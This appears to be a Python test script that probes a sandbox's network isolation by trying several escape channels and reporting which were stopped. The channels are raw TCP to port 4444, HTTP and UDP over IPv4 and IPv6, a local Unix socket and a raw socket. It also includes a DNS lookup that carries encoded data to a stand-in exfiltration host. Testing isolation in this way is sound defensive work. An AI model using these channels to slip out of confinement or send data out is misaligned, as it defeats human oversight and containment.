"""The runaway: tries to leave by every way but the gate, and says how each ended.

Started as `python runaway.py UNIX_SOCKET`. Exit code 0 when no way led out, 1 when one did.
"""

from __future__ import annotations

import socket
import sys
import time
from collections.abc import Callable

SECONDS = 5.0
# Documentation addresses (RFC 5737, RFC 3849): nothing is there, and nothing is to be reached.
IPV4, IPV6 = "203.0.113.7", "2001:db8::7"


def tcp(family: socket.AddressFamily, address: str, port: int, payload: bytes) -> None:
    """Connect, send, and wait for any byte of an answer."""
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(SECONDS)
        connection.connect((address, port))
        connection.sendall(payload)
        answer = connection.recv(200)
    if not answer:
        raise ConnectionResetError("closed without a byte")
    if answer.startswith(b"HTTP/1.1 403"):
        raise PermissionError("403 from the gate")


def udp(family: socket.AddressFamily, address: str, port: int) -> None:
    """Send one datagram and wait for an answer."""
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(SECONDS)
        sender.connect((address, port))
        sender.send(b"out")
        sender.recv(1)


def name(host: str) -> None:
    """Look a name up that carries data out."""
    socket.getaddrinfo(host, 443)


def unix(path: str) -> None:
    """Connect to a Unix socket of the machine."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.connect(path)


def raw() -> None:
    """Open a raw socket."""
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


def ways(unix_path: str) -> dict[str, Callable[[], None]]:
    """Each way out by the name it is told under."""
    request = b"GET / HTTP/1.1\r\nHost: example.com\r\n\r\n"
    return {
        "raw TCP": lambda: tcp(socket.AF_INET, IPV4, 4444, b"hello, is anybody there?\n"),
        "HTTP to an address": lambda: tcp(socket.AF_INET, IPV4, 80, request),
        "HTTP over IPv6": lambda: tcp(socket.AF_INET6, IPV6, 80, request),
        "UDP 443": lambda: udp(socket.AF_INET, IPV4, 443),
        "UDP 443 over IPv6": lambda: udp(socket.AF_INET6, IPV6, 443),
        "DNS": lambda: name("c2VjcmV0.exfiltration.example"),
        "Unix socket": lambda: unix(unix_path),
        "raw socket": raw,
    }


def main() -> int:
    """Try each way once."""
    out = 0
    for way, attempt in ways(sys.argv[1]).items():
        started = time.monotonic()
        try:
            attempt()
            out += 1
            print(f"  {way}: LEFT", flush=True)
        except OSError as error:
            print(f"  {way}: stopped after {(time.monotonic() - started) * 1000:.0f} ms: {error}", flush=True)
    return 1 if out else 0


if __name__ == "__main__":
    sys.exit(main())
